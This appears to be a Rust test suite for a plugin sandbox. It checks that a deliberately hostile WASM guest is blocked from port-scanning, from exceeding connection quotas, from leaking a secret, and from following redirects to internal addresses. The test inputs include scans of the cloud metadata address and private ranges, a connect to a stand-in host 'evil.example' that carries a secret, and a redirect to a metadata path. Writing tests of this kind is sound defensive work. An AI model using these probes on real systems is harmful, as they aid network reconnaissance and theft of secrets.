//! Plugins with a network that want more than they were granted, and servers that want more of plugins than an answer.

use std::{
    fs,
    io::{BufRead as _, BufReader, Read as _, Write as _},
    net::{TcpListener, TcpStream},
    path::Path,
    process::{Child, Command, Stdio},
    sync::{
        Arc,
        atomic::{AtomicUsize, Ordering},
    },
    thread,
};

use anyhow::{Context as _, Result, ensure};
use spout_tests::{Site, guests, relay::Relay, root};

const SECRET: &str = "s3cret-of-the-broker";

/// A place with the guest that tries whatever the network has, the neighbour's source and these plugins.
fn site(plugins: &[&str]) -> Result<Site> {
    let mut site = Site::new()?;
    let shipped = plugins.iter().chain(&["files"]).map(|name| root().join(format!("plugins/{name}.wasm")));
    for from in shipped.chain([guests().join("network.wasm")]) {
        let bytes = fs::read(&from).with_context(|| format!("{}; `just plugins guests` builds it", from.display()))?;
        let name = from.file_name().context("a name")?.display().to_string();
        site.write(&format!("plugins/{name}"), bytes)?;
    }
    site.plugins = site.path().join("plugins");
    site.environment.push(("SPOUT_TEST_SECRET", SECRET.into()));
    Ok(site)
}

/// A pipeline of the guest that does these deeds.
fn deeds(deeds: &[&str], rest: &str) -> Result<String> {
    let deeds = serde_json::to_string(deeds)?;
    Ok(format!(
        "pipeline: {{name: trial}}
producer:
  stream: {{plugin: network/deeds, topic: t, consumerType: highlevel, settings: {{deeds: {deeds}}}}}
  decoder: {{type: raw}}
{rest}
"
    ))
}

fn outcomes(site: &Site) -> Result<Vec<String>> {
    site.rows("select cast(value as varchar) as deed from trial", None)
}

/// A port of loopback where everybody is let in and counted, and served by `serve`.
fn listen(serve: impl Fn(TcpStream) + Clone + Send + 'static) -> Result<(String, Arc<AtomicUsize>)> {
    let listener = TcpListener::bind("127.0.0.1:0")?;
    let (address, count) = (listener.local_addr()?.to_string(), Arc::new(AtomicUsize::new(0)));
    let seen = Arc::clone(&count);
    // It ends with the process.
    thread::spawn(move || {
        for stream in listener.incoming().map_while(Result::ok) {
            seen.fetch_add(1, Ordering::SeqCst);
            let serve = serve.clone();
            thread::spawn(move || serve(stream));
        }
    });
    Ok((address, count))
}

/// Keeps the connection, and says nothing.
fn hold(mut stream: TcpStream) {
    drop(stream.read_to_end(&mut Vec::new()));
}

/// A pipeline that is honest, over a directory that gets files.
const NEIGHBOUR: &str = "pipeline: {name: good}
producer: {stream: {plugin: files, topic: in}, decoder: {type: json}}
grants: {files: {dirs: {in: ./in}}}
commit: {flush: {rows: 1}}
";

#[test]
fn who_scans_meets_nobody_and_is_told_of_a_few_times() -> Result<()> {
    let site = site(&[])?;
    let ((open, met), (granted, _)) = (listen(hold)?, listen(hold)?);
    let port: u16 = open.rsplit(':').next().context("a port")?.parse()?;
    // Around the port where somebody listens, and the addresses of a cloud and of the network around.
    let (first, last) = (port.saturating_sub(200).max(1), port.saturating_add(200));
    let near = format!("scan 127.0.0.1 {first}-{last}");
    let mapped = format!("scan [::ffff:127.0.0.1] {port}-{port}");
    let all = [near.as_str(), &mapped, "scan 169.254.169.254 79-81", "scan 10.0.0.1 1-50", "scan localhost 1-50"];
    let grants = format!("grants: {{network: {{net: [\"{granted}\"]}}}}");
    site.write("spec.yaml", deeds(&all, &grants)?)?;
    let output = site.run(&["run", "spec.yaml", "--until", "ended"])?;
    let said = String::from_utf8_lossy(&output.stderr);
    ensure!(output.status.success(), "{said}");
    ensure!(met.load(Ordering::SeqCst) == 0, "somebody was met");
    let outcomes = outcomes(&site)?;
    let near = outcomes.iter().find(|one| one.contains(&near)).context("the scan")?;
    // The port that is granted may be near.
    ensure!(near.contains(": 0 open") || near.contains(": 2 open"), "{near}");
    for (deed, tried) in [("169.254.169.254", 6), ("10.0.0.1", 100), ("localhost", 100)] {
        let denied = format!("0 open and {tried} denied of {tried}");
        ensure!(outcomes.iter().any(|one| one.contains(deed) && one.contains(&denied)), "{deed}: {outcomes:?}");
    }
    let lines = said.lines().filter(|line| line.contains("E0230")).count();
    ensure!((2..=17).contains(&lines), "{lines} lines:\n{said}");
    Ok(())
}

/// Two readers of a plugin, each of which wants all connections there are.
#[test]
fn connections_are_a_quota_of_the_plugin_and_its_neighbour_has_its_own() -> Result<()> {
    let site = site(&[])?;
    let (address, _) = listen(hold)?;
    let port: u16 = address.rsplit(':').next().context("a port")?.parse()?;
    let relay = Relay::start(port)?;
    let to = relay.address();
    let rest =
        format!("grants: {{network: {{endpoints: {{broker: {{address: \"{to}\"}}}}}}}}\nlimits: {{sockets: 100}}");
    site.write("spec.yaml", deeds(&["many broker 10000", "many broker 50"], &rest)?)?;
    site.write("good.yaml", NEIGHBOUR)?;
    site.write("in/a.ndjson", "{\"n\":1}\n")?;
    let mut run = site.start(&["run", "good.yaml", "spec.yaml"])?;
    while site.number("select count(*) from trial", None).unwrap_or(0) < 2 {
        run.wait_for("committed")?.context("a commit")?;
    }
    // The neighbour goes on.
    site.write("in/b.ndjson", "{\"n\":2}\n")?;
    while site.number("select count(*) from good", None).unwrap_or(0) < 2 {
        run.wait_for("committed")?.context("a commit")?;
    }
    run.signal("TERM")?;
    let (fine, said) = run.end()?;
    ensure!(fine, "{said}");
    let outcomes = outcomes(&site)?;
    ensure!(outcomes.iter().any(|one| one.contains("100, then QuotaExceeded")), "{outcomes:?}");
    ensure!(outcomes.iter().any(|one| one.contains("many broker 50: 50")), "{outcomes:?}");
    ensure!(relay.most() <= 150, "{} connections", relay.most());
    Ok(())
}

/// Whether `text` is in a file below `dir`.
fn holds(dir: &Path, text: &str) -> Result<bool> {
    for entry in fs::read_dir(dir)? {
        let path = entry?.path();
        let found = if path.is_dir() {
            holds(&path, text)?
        } else {
            fs::read(&path)?.windows(text.len()).any(|bytes| bytes == text.as_bytes())
        };
        if found {
            return Ok(true);
        }
    }
    Ok(false)
}

#[test]
fn a_secret_that_a_plugin_may_see_is_in_nothing_that_it_says() -> Result<()> {
    let rest = "grants: {network: {secrets: {password: {env: SPOUT_TEST_SECRET, reveal: true}}}}";
    let ways = ["log", "metric", "fault", "error", "panic"].map(|way| format!("spread password {way}"));
    let looked_up = format!("connect {SECRET}.evil.example:80");
    for way in ways.iter().map(String::as_str).chain([looked_up.as_str()]) {
        let site = site(&[])?;
        // What settings say is not said by the plugin; this one is what it has put together itself.
        site.write("spec.yaml", deeds(&[way, "unknown"], rest)?)?;
        let mut all = vec![site.run(&["run", "spec.yaml", "--until", "ended", "--json"])?];
        for args in [
            &["inspect", "pipeline", "trial"][..],
            &["logs", "trial"],
            &["deadletter", "list", "trial"],
            &["deadletter", "show", "trial"],
            &["pipeline", "status", "trial"],
        ] {
            all.push(site.run(args)?);
        }
        let text = |bytes: &[u8]| String::from_utf8_lossy(bytes).into_owned();
        let said: String = all.iter().map(|one| text(&one.stdout) + &text(&one.stderr)).collect();
        let said = said.replace(&looked_up, "");
        ensure!(!said.contains(SECRET), "{way}: {said}");
        ensure!(said.contains("[secret]") || way.ends_with("metric"), "{way}: it was not said at all\n{said}");
        if way != looked_up {
            ensure!(!holds(Path::new(&site.store), SECRET)?, "{way}: the store has the secret");
        }
    }
    Ok(())
}

#[test]
fn a_redirect_inward_is_not_followed_by_those_who_poll() -> Result<()> {
    let site = site(&["http-poll", "objects"])?;
    let (inside, met) = listen(hold)?;
    let moved =
        format!("HTTP/1.1 302 Found\r\nLocation: http://{inside}/latest/meta-data\r\nContent-Length: 0\r\n\r\n");
    let (door, _) = listen(move |mut stream| {
        let mut request = BufReader::new(&mut stream);
        let mut line = String::new();
        while request.read_line(&mut line).is_ok_and(|read| read > 2) {
            line.clear();
        }
        drop(stream.write_all(moved.as_bytes()));
    })?;
    let poll = format!(
        "pipeline: {{name: poll}}
producer: {{stream: {{plugin: http-poll, topic: \"http://{door}/x\", settings: {{mode: cursor, items: /data, field: /next}}}}, decoder: {{type: raw}}}}
grants: {{http-poll: {{net: [\"{door}\"]}}}}
---
pipeline: {{name: objects}}
producer: {{stream: {{plugin: objects, topic: \"bucket/in/\", settings: {{endpoint: \"http://{door}\"}}}}, decoder: {{type: raw}}}}
grants: {{objects: {{net: [\"{door}\"]}}}}
"
    );
    site.write("spec.yaml", poll)?;
    let mut host = Host::start(&site, "spec.yaml")?;
    let said = until_each_is_told_of(&mut host.0, &["poll", "objects"])?;
    host.stop()?;
    ensure!(met.load(Ordering::SeqCst) == 0, "it went inside:\n{said}");
    ensure!(said.contains("302"), "{said}");
    Ok(())
}

/// A host whose updates nobody reads. It is killed when this goes.
struct Host(Child);

impl Host {
    fn start(site: &Site, spec: &str) -> Result<Self> {
        Ok(Self(site.command(&["run", spec]).stdout(Stdio::null()).stderr(Stdio::piped()).spawn()?))
    }

    fn stop(&mut self) -> Result<()> {
        let asked = Command::new("kill").args(["-TERM", &self.0.id().to_string()]).status()?;
        ensure!(asked.success(), "kill failed");
        self.0.wait().map(drop).context("the host")
    }
}

impl Drop for Host {
    fn drop(&mut self) {
        // It may have ended long ago.
        drop(self.0.kill());
        drop(self.0.wait());
    }
}

/// Reads what is said until something was said of each of these pipelines that went wrong.
fn until_each_is_told_of(host: &mut Child, pipelines: &[&str]) -> Result<String> {
    let mut lines = BufReader::new(host.stderr.take().context("standard error")?);
    let mut said = String::new();
    while !pipelines.iter().all(|name| said.contains(&format!("of pipeline `{name}`"))) {
        ensure!(lines.read_line(&mut said)? > 0, "it ended:\n{said}");
    }
    // Nobody waits for a pipe that is full.
    thread::spawn(move || drop(lines.read_to_end(&mut Vec::new())));
    Ok(said)
}
